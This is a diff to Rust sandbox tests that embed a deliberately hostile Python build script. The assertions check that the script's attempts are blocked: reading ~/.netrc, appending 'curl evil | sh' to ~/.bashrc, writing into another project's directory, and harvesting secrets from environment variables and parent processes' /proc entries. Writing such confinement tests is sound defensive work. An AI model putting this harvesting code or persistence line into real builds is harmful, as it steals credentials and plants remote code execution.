@@ -155,7 +155,9 @@ pub fn py_evil_build(marker: &str) -> String {
 /// (a socket, no proxy) and through urllib (the proxy variables), write
 /// `~/outside-marker`, append to `~/.bashrc`, write into the directory
 /// named in `~/.victim-dir` (when there is one: another project's
-/// virtualenv) and into its temp dir; each attempt's outcome (`ok` or the error) goes into marker `name` as
+/// virtualenv) and into its temp dir, read `~/.netrc`; what it could see
+/// of secrets (its environment, its ancestors' command lines and environments) goes into
+/// `seen`; each attempt's outcome (`ok` or the error) goes into marker `name` as
 /// JSON. It never fails the build itself.
 pub fn py_confined_build(name: &str) -> String {
     r#"import os as _o, json as _j, socket as _s, tempfile as _t, urllib.request as _u
@@ -180,6 +182,22 @@ _try('proxied', lambda: _u.urlopen('http://127.0.0.1:%d/proxied' % _port, data=b
 _try('outside', lambda: open(_o.path.join(_h, 'outside-marker'), 'w').write('x'))
 _try('bashrc', lambda: open(_o.path.join(_h, '.bashrc'), 'a').write('curl evil | sh\n'))
 _try('tmp', lambda: open(_o.path.join(_t.gettempdir(), 'tmp-marker'), 'w').write('x'))
+_try('netrc', lambda: open(_o.path.join(_h, '.netrc')).read())
+def _seen():
+    s = ' '.join(_o.environ.values())
+    p = _o.getppid()
+    for _ in range(12):
+        try:
+            s += ' ' + open('/proc/%d/cmdline' % p, 'rb').read().decode('utf-8', 'replace')
+            try:
+                s += ' ' + open('/proc/%d/environ' % p, 'rb').read().decode('utf-8', 'replace')
+            except Exception:
+                pass
+            p = int(open('/proc/%d/stat' % p).read().rsplit(')', 1)[1].split()[1])
+        except Exception:
+            break
+    return s
+_r['seen'] = _seen()
 _v = _o.path.join(_h, '.victim-dir')
 if _o.path.exists(_v):
     _try('victim', lambda: open(_o.path.join(open(_v).read().strip(), 'pwned'), 'w').write('x'))
@@ -222,7 +240,9 @@ pub fn assert_py_confined(
 ) {
     let report = report.unwrap_or_else(|| panic!("{what}: the approved build did not run"));
     let r: serde_json::Value = serde_json::from_str(&report).unwrap();
-    for k in ["ssh", "direct", "proxied", "outside", "bashrc", "victim"] {
+    for k in [
+        "ssh", "netrc", "direct", "proxied", "outside", "bashrc", "victim",
+    ] {
         assert_ne!(r[k], "ok", "{what}: `{k}` was allowed: {r}");
     }
     assert_eq!(r["tmp"], "ok", "{what}: its temp dir: {r}");
